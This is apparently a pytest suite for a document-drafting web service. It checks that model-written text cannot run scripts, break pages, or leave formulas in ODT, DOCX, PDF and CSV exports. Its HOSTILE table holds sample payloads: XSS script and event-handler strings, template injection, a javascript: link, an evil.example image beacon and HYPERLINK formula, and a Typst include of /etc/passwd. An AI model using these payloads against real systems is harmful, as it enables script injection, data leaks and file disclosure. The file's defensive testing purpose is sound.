"""What a model may write: it never runs, breaks no page, and leaves no formula in an export."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html.parser import HTMLParser

import pytest
from defusedxml import ElementTree
from tests.web.office import Office, Visitor
from tests.web.test_way import countersigned, drafted, judged, submitted

pytestmark = [pytest.mark.point("ey-genai-2023:5")]

HOSTILE = {
    "script": "主旨：<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x="\'><img src=x onerror=alert(1)>',
    "svg": "<svg/onload=alert(1)><foreignObject><iframe srcdoc='<script>1</script>'>",
    "template": "{{ 7*7 }} {% for x in y %} ${7*7} <%= 7*7 %>",
    "markdown": "![x](https://evil.example/p.png?q=個資) [點此](javascript:alert(1))",
    "formula": '=HYPERLINK("https://evil.example","按")\n+1+1\n-1\n@SUM(A1)\n\t=1',
    "bidi": "給付 \u202e000,1\u202c 元\u2066\u200b\ufeff\u0000\u0007結束",
    "sse": 'data: [DONE]\n\nevent: go\ndata: "https://evil.example"\n\n',
    "xml": "]]><!-- --><text:p>&lt;x&gt;&amp;&#x0;</text:p><?xml version='1.0'?>",
    "typst": '#eval("1+1") #include "/etc/passwd" $x^2$ *b* _i_ @ref <label> \\u{41}',
    "lone": "孤\ud800字".encode("utf-8", "replace").decode(),
}


class Elements(HTMLParser):
    """Every element with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def harmless(page: str) -> None:
    parser = Elements()
    parser.feed(page)
    for tag, attributes in parser.found:
        assert tag not in ("iframe", "object", "embed", "foreignobject", "base", "style"), tag
        if tag == "script":
            assert attributes == {"src": "/static/shenyong.js", "type": "module"}
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "action", "formaction"):
                assert re.match(r"/|#|\?|http://127\.0\.0\.1:", value or ""), (tag, value)


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_page_runs_what_a_model_wrote(office: Office, kind: str) -> None:
    lin = office.visitor("lin")
    matter = drafted(office, lin, HOSTILE[kind])
    for path in ("", "?view=changes", "?view=clean", "/edit", "/copy"):
        page = lin.get(f"/m/{matter}{path}")
        assert page.status_code == 200, path
        harmless(page.text)
        policy = page.headers["content-security-policy"]
        assert "'unsafe" not in policy
        assert "require-trusted-types-for 'script'" in policy


@pytest.mark.parametrize("kind", HOSTILE)
def test_every_export_is_whole(office: Office, kind: str) -> None:
    lin = office.visitor("lin")
    matter = drafted(office, lin, HOSTILE[kind])
    for form in ("odt", "docx"):
        data = lin.get(f"/m/{matter}/file?format={form}").content
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                if name.endswith((".xml", ".rels")):
                    content = archive.read(name)
                    if content:  # LibreOffice itself leaves an empty one
                        ElementTree.fromstring(content)
                    assert (
                        b"evil.example" not in content or b'xlink:href="https://evil' not in content
                    )
            assert not any(
                "macro" in name.lower() or "Basic" in name for name in archive.namelist()
            )
    pdf = lin.get(f"/m/{matter}/file?format=pdf")
    if pdf.status_code == 200:
        assert pdf.content.startswith(b"%PDF-")
        for forbidden in (b"/JavaScript", b"/Launch", b"/OpenAction"):
            assert forbidden not in pdf.content


def test_what_is_released_verifies_though_it_was_hostile(office: Office) -> None:
    lin = office.visitor("lin")
    matter = drafted(office, lin, HOSTILE["attribute"] + HOSTILE["xml"] + HOSTILE["typst"])
    judged(lin, matter)
    submitted(lin, matter)
    countersigned(office.visitor("chen"), matter)
    lin.get(f"/m/{matter}")
    lin.post(f"/m/{matter}/release", {})
    for form in ("odt", "docx", "pdf"):
        data = lin.get(f"/m/{matter}/file?format={form}")
        if data.status_code == 501:
            continue
        lin.get("/verify")
        lin.post("/verify", files={"file": (f"a.{form}", data.content)})
        assert "<h2>為真</h2>" in lin.text, form


def test_no_table_holds_a_formula(office: Office) -> None:
    public = Visitor(office.public_url)
    rows = list(csv.reader(io.StringIO(public.get("/data/disclosures.csv").text)))
    assert len(rows) >= 2
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell]


def test_a_million_characters(office: Office) -> None:
    lin = office.visitor("lin")
    text = ("本案依規定辦理。" * 125_000)[:1_000_000]
    matter = drafted(office, lin, text)
    page = lin.get(f"/m/{matter}")
    assert page.status_code == 200
    harmless(page.text)


@pytest.mark.parametrize("name", ["number", "title"])
def test_what_people_type_is_no_markup_either(office: Office, name: str) -> None:
    lin = office.visitor("lin")
    lin.get("/m/new")
    told = {"number": f"H-{name}", "title": "x", "template": "letter", "level": "普通"}
    lin.post("/m/new", {**told, name: "<img src=x onerror=alert(1)>"[:60]})
    assert lin.page is not None
    harmless(lin.page.text)
    harmless(lin.get("/").text)
